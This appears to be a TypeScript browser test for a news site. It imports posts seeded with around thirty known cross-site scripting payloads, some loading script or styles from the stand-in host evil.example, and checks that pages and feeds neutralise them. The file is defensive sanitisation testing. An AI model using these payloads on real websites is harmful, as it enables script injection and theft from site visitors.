import { existsSync, readFileSync } from 'node:fs'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launchBrowser, openPage } from './browser.ts'
import { type System, startSystem } from './system.ts'

/** Ways to make a page act that are known everywhere (OWASP's and PortSwigger's cheat sheets name them all). */
const ways = [
  `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
  `<script>window.hit=1</script>`,
  `<IMG SRC="javascript:window.hit=1;">`,
  `<IMG SRC=JaVaScRiPt:window.hit=1>`,
  `<img src=x onerror="window.hit=1">`,
  `<img src="x:gif" onerror="eval('window.hit=1')">`,
  `\\<a onmouseover="window.hit=1"\\>xxs link\\</a\\>`,
  `<IMG """><SCRIPT>window.hit=1</SCRIPT>"\\>`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.hit=1>`,
  `<a href="jav&#x09;ascript:window.hit=1">a</a><a href="jav&#x0A;ascript:window.hit=1">b</a>`,
  `<a href=" &#14;  javascript:window.hit=1">a</a><a href="&#x6A;avascript:window.hit=1">b</a>`,
  `<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT><BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=window.hit=1>`,
  `<<SCRIPT>window.hit=1;//\\<</SCRIPT>`,
  `<svg/onload=window.hit=1><svg><script>window.hit=1</script></svg>`,
  `<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>`,
  `<iframe src="javascript:window.hit=1"></iframe><iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<details open ontoggle=window.hit=1>x</details><video autoplay onloadstart=window.hit=1><source></video>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=window.hit=1>">`,
  `<style>@import'https://evil.example/x.css';body{background:url(https://evil.example/)}</style>`,
  `<div style="background-image:url(https://evil.example/x)">x</div><table background="https://evil.example/x"><tr><td>x`,
  `<base href="https://evil.example/"><link rel=stylesheet href="//evil.example/x.css"><meta http-equiv="refresh" content="0;url=javascript:window.hit=1">`,
  `<form action="https://evil.example"><input autofocus onfocus=window.hit=1><button formaction="javascript:window.hit=1">x</button></form>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4="></object><embed src="javascript:window.hit=1">`,
  `<a href="data:text/html,<script>window.hit=1</script>">x</a><a href="vbscript:x">y</a>`,
  `<p id="__proto__" name="constructor">x</p><img name="getElementById" src="https://evil.example/i.gif">`,
  `]]></content:encoded><script>window.hit=1</script><![CDATA[`,
  `</title></textarea></style></script></noscript><img src=x onerror=window.hit=1>`,
  `{{constructor.constructor('window.hit=1')()}}<template><script>window.hit=1</script></template>`,
  `[caption]<img src=x onerror=window.hit=1>[/caption][gallery ids="1"][embed]javascript:window.hit=1[/embed]`,
  `<!--[if gte IE 4]><script>window.hit=1</script><![endif]--><!-- wp:html {"a":"--><img src=x onerror=window.hit=1>"} -->`,
]

/** More strings that others have published, where somebody has put them beside the repository. */
const published = join(import.meta.dirname, '../../../../shared/data/attacks/html-payloads.json')

function payloads(): string[] {
  if (!existsSync(published)) return ways
  const more = JSON.parse(readFileSync(published, 'utf8')) as { payload: string }[]
  return [...ways, ...more.map(({ payload }) => payload)]
}

/** Each string as the text, the title and the excerpt of a post, and as what its picture and author are called. */
function exportOf(strings: readonly string[]): string {
  const cdata = (text: string) => `<![CDATA[${text.replaceAll(']]>', ']]]]><![CDATA[>')}]]>`
  const items = strings.map(
    (text, i) => `<item><title>${cdata(`${text} ${i}`)}</title><dc:creator>${cdata(text)}</dc:creator>
<content:encoded>${cdata(`<p>before</p>${text}`)}</content:encoded><excerpt:encoded>${cdata(text)}</excerpt:encoded>
<wp:post_id>${i + 1}</wp:post_id><wp:post_date_gmt>2025-10-02 12:20:00</wp:post_date_gmt><wp:post_name>attack-${i}</wp:post_name>
<wp:status>publish</wp:status><wp:post_type>post</wp:post_type>
<category domain="category" nicename="misto">${cdata(text)}</category><category domain="post_tag" nicename="t${i}">${cdata(text)}</category></item>`,
  )
  return `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:excerpt="e" xmlns:content="c" xmlns:dc="d" xmlns:wp="w"><channel>
<title>x</title><link>https://old.example</link><wp:wxr_version>1.2</wp:wxr_version>${items.join('')}</channel></rss>`
}

describe('what attackers write into posts', () => {
  const strings = payloads()
  let system: System
  let browser: Browser
  let folder: string

  beforeAll(async () => {
    ;[system, browser] = await Promise.all([startSystem(), launchBrowser()])
    folder = await mkdtemp(join(tmpdir(), 'news-attacks-'))
    const file = join(folder, 'export.xml')
    await writeFile(file, exportOf(strings))
    await system.news('import', file).catch(() => undefined)
  })

  afterAll(async () => {
    await Promise.all([browser?.close(), system?.stop()])
    await rm(folder, { recursive: true })
  })

  /** The pages of all that was imported, and those that list it. */
  function addresses(): string[] {
    const articles = strings.map((_, i) => `/news/attack-${i}`)
    return ['/', '/section/misto', '/search?q=before', ...articles].map((path) => system.url + path)
  }

  it('does nothing in a browser that listens to everything', async () => {
    const { page, complaints } = await openPage(browser, system.url)
    const acted: string[] = []
    page.on('dialog', async (dialog) => {
      acted.push(`dialog on ${page.url()}`)
      await dialog.dismiss()
    })
    page.on('popup', () => acted.push(`window from ${page.url()}`))
    page.on('frameattached', () => acted.push(`frame on ${page.url()}`))
    let visited = 0
    for (const url of addresses()) {
      const answer = await page.goto(url)
      if (answer?.status() === 200) visited++
      const left = await page.evaluate(() => {
        const active = document.querySelectorAll(
          'main :is(script,iframe,object,embed,form:not([action$="/search"]),svg script,style,base,meta,link,template,[style],[srcdoc],[onerror],[onload],[onclick],[onfocus],[onmouseover],[ontoggle])',
        )
        const wild = [...document.querySelectorAll('main a, main img')].filter((element) =>
          /^\s*(?:javascript|data|vbscript):/i.test(
            element.getAttribute('href') ?? element.getAttribute('src') ?? '',
          ),
        )
        return { hit: 'hit' in globalThis, active: active.length, wild: wild.length, at: location.href }
      })
      if (left.hit || left.active + left.wild > 0 || left.at !== url) acted.push(JSON.stringify(left))
    }
    expect({ acted, complaints }).toEqual({ acted: [], complaints: [] })
    expect(visited).toBeGreaterThan(strings.length * 0.8)
  })

  it('does nothing in whoever shows the feeds as the HTML that they are', async () => {
    const { page, complaints } = await openPage(browser, `${system.url}/robots.txt`)
    const feed: unknown = await (await fetch(`${system.url}/feed.json`)).json()
    const { items } = feed as { items: { content_html: string }[] }
    expect(items.length).toBeGreaterThan(5)
    for (const { content_html: html } of items) {
      const left = await page.evaluate((text) => {
        document.body.innerHTML = text
        const active = document.body.querySelectorAll(
          'script,iframe,object,embed,form,svg,style,base,meta,link,template,[style],[srcdoc],[onerror],[onload]',
        )
        return { hit: 'hit' in globalThis, active: active.length }
      }, html)
      expect(left, html).toEqual({ hit: false, active: 0 })
    }
    // A reader of feeds does load the pictures that a feed shows; the page of an article does not.
    expect(complaints.filter((text) => !/^asked|Failed to load resource|ERR_/.test(text))).toEqual([])
  })
})
